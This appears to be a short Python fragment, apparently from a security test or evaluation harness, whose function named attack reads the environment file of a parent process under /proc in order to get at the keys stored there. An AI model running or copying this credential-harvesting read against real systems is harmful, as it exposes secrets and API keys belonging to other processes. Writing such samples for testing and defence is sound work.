"""Reads the worker's environment, where the keys are."""


def attack(world):
    return open(f"/proc/{world['parent']}/environ").read()
